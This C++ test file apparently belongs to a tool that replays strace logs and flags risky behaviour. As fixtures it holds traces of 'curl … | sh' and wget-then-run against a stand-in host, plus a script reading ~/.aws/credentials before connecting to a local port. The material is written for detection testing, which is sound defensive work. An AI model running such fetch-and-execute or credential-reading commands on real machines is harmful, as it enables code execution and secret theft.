// The download-and-run family and credentials sent to a local peer (#22), on imported strace
// logs: the remote peers these rules need are not reachable from a test (tests talk to loopback
// only), and an import replays exactly the calls a real `curl … | sh` makes.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

#include "harness.h"

namespace capsule::test {
namespace {

namespace fs = std::filesystem;

struct Found {
  std::string rule, severity, description;
};

// The findings of importing `trace` into a fresh home.
std::vector<Found> findings_of_import(const std::string& trace) {
  TempDir dir;
  const fs::path file = dir.path() / "trace.txt";
  std::ofstream(file) << trace;
  const Outcome o = run_program({capsule_bin(), "import", "--home", dir.path().string(), file.string()});
  EXPECT_EQ(o.exit_code, 0) << o.err;
  std::vector<Found> out;
  for (const auto& f : read_jsonl(latest_run(dir.path()) / "risks.jsonl")) {
    out.push_back({f.at("rule"), f.at("severity"), f.at("description")});
  }
  return out;
}

const Found* find(const std::vector<Found>& f, const std::string& rule) {
  const auto it = std::find_if(f.begin(), f.end(), [&](const Found& x) { return x.rule == rule; });
  return it == f.end() ? nullptr : &*it;
}

// That `rule` fired at `severity` and its description says `words`.
void expect_finding(const std::vector<Found>& f, const std::string& rule, const std::string& severity,
                    const std::string& words) {
  const Found* d = find(f, rule);
  ASSERT_NE(d, nullptr) << rule;
  EXPECT_EQ(d->severity, severity) << rule;
  EXPECT_NE(d->description.find(words), std::string::npos) << d->description;
}

// sh -c 'curl -s https://203.0.113.80/install.sh | sh': curl and the second sh are siblings.
const char* const kCurlPipeSh =
    "299 10:00:00.000000 execve(\"/bin/sh\", [\"sh\", \"-c\", \"curl -s https://203.0.113.80/i.sh | sh\"], []) = 0\n"
    "299 10:00:00.010000 pipe2([3<pipe:[10]>, 4<pipe:[10]>], 0) = 0\n"
    "299 10:00:00.020000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f0000000000) = 300\n"
    "299 10:00:00.030000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f0000000000) = 301\n"
    "300 10:00:00.040000 dup2(4<pipe:[10]>, 1) = 1<pipe:[10]>\n"
    "300 10:00:00.050000 execve(\"/usr/bin/curl\", [\"curl\", \"-s\", \"https://203.0.113.80/i.sh\"], []) = 0\n"
    "300 10:00:00.060000 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 5<TCP:[20]>\n"
    "300 10:00:00.070000 connect(5<TCP:[20]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.80\")}, 16) = 0\n"
    "300 10:00:00.080000 write(1<pipe:[10]>, \"echo owned\\n\", 11) = 11\n"
    "300 10:00:00.090000 exit_group(0) = ?\n"
    "300 10:00:00.100000 +++ exited with 0 +++\n"
    "301 10:00:00.040000 dup2(3<pipe:[10]>, 0) = 0<pipe:[10]>\n"
    "301 10:00:00.050000 execve(\"/bin/sh\", [\"sh\"], []) = 0\n"
    "301 10:00:00.110000 read(0<pipe:[10]>, \"echo owned\\n\", 8192) = 11\n"
    "301 10:00:00.120000 exit_group(0) = ?\n"
    "301 10:00:00.130000 +++ exited with 0 +++\n"
    "299 10:00:00.140000 exit_group(0) = ?\n"
    "299 10:00:00.150000 +++ exited with 0 +++\n";

TEST(DownloadRules, CurlPipedIntoAShell) {
  expect_finding(findings_of_import(kCurlPipeSh), "download-piped-to-shell", "high",
                 "sh runs a script it reads from a pipe, after 203.0.113.80:443 was contacted");
}

// The same pipe without a download before it (`echo … | sh`) is ordinary.
TEST(DownloadRules, APipeIntoAShellWithoutADownloadIsQuiet) {
  std::string trace = kCurlPipeSh;
  const std::string connect_line = trace.substr(trace.find("300 10:00:00.070000 connect"));
  trace.erase(trace.find("300 10:00:00.070000 connect"), connect_line.find('\n') + 1);
  EXPECT_EQ(find(findings_of_import(trace), "download-piped-to-shell"), nullptr);
}

// wget -O /tmp/y https://… && sh /tmp/y
TEST(DownloadRules, ScriptWrittenAfterADownloadThenRunByAShell) {
  const auto f = findings_of_import(
      "400 10:00:00.000000 execve(\"/usr/bin/wget\", [\"wget\", \"-O\", \"/tmp/y\", \"https://203.0.113.80/y\"], []) = 0\n"
      "400 10:00:00.010000 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 3<TCP:[30]>\n"
      "400 10:00:00.020000 connect(3<TCP:[30]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.80\")}, 16) = 0\n"
      "400 10:00:00.030000 openat(AT_FDCWD, \"/tmp/y\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 4</tmp/y>\n"
      "400 10:00:00.040000 write(4</tmp/y>, \"echo owned\\n\", 11) = 11\n"
      "400 10:00:00.050000 execve(\"/bin/sh\", [\"sh\", \"/tmp/y\"], []) = 0\n"
      "400 10:00:00.060000 openat(AT_FDCWD, \"/tmp/y\", O_RDONLY) = 3</tmp/y>\n"
      "400 10:00:00.070000 exit_group(0) = ?\n"
      "400 10:00:00.080000 +++ exited with 0 +++\n");
  expect_finding(f, "download-then-run-script", "medium",
                 "runs /tmp/y, a script this run wrote after contacting 203.0.113.80:443");
}

// A credential read and then sent to a peer on this machine (a proxy, a tunnel): high, where a
// remote peer is critical (`exfiltration`).
TEST(DownloadRules, CredentialsSentToALoopbackPeer) {
  const auto f = findings_of_import(
      "500 10:00:00.000000 execve(\"/usr/bin/python3\", [\"python3\", \"x.py\"], [\"HOME=/home/u\"]) = 0\n"
      "500 10:00:00.010000 openat(AT_FDCWD, \"/home/u/.aws/credentials\", O_RDONLY) = 3</home/u/.aws/credentials>\n"
      "500 10:00:00.020000 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 4<TCP:[40]>\n"
      "500 10:00:00.030000 connect(4<TCP:[40]>, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 0\n"
      "500 10:00:00.040000 exit_group(0) = ?\n"
      "500 10:00:00.050000 +++ exited with 0 +++\n");
  expect_finding(f, "exfiltration-local", "high", "sent data to 127.0.0.1:8080 on this machine");
  EXPECT_EQ(find(f, "exfiltration"), nullptr);
}

std::string scenario_trace(const std::string& name) {
  std::ifstream in(fs::path(CAPSULE_SOURCE_DIR) / "tests/data/scenarios" / name);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

void replace_once(std::string& text, const std::string& from, const std::string& to) {
  const size_t at = text.find(from);
  ASSERT_NE(at, std::string::npos) << from;
  text.replace(at, from.size(), to);
}

// `curl … | python3 -c 'import json, sys; …'` reads data from the pipe, not a program.
TEST(DownloadRules, APipeIntoAnInterpretersOwnCodeIsQuiet) {
  std::string trace = scenario_trace("curl_pipe_python.strace");
  ASSERT_NE(find(findings_of_import(trace), "download-piped-to-interpreter"), nullptr);
  replace_once(trace, "[\"python3\"]", "[\"python3\", \"-c\", \"import json, sys; json.load(sys.stdin)\"]");
  EXPECT_EQ(find(findings_of_import(trace), "download-piped-to-interpreter"), nullptr);
}

// What pip installed after a download is the install's purpose, not a downloaded script.
TEST(DownloadRules, AnInterpreterReadingInstalledCodeIsQuiet) {
  std::string trace = scenario_trace("curl_then_python_file.strace");
  for (int i = 0; i < 7; ++i) replace_once(trace, "/home/u/x.py", "/home/u/v/lib/python3.11/site-packages/x.py");
  EXPECT_EQ(find(findings_of_import(trace), "download-then-run-interpreter"), nullptr);
}

}  // namespace
}  // namespace capsule::test
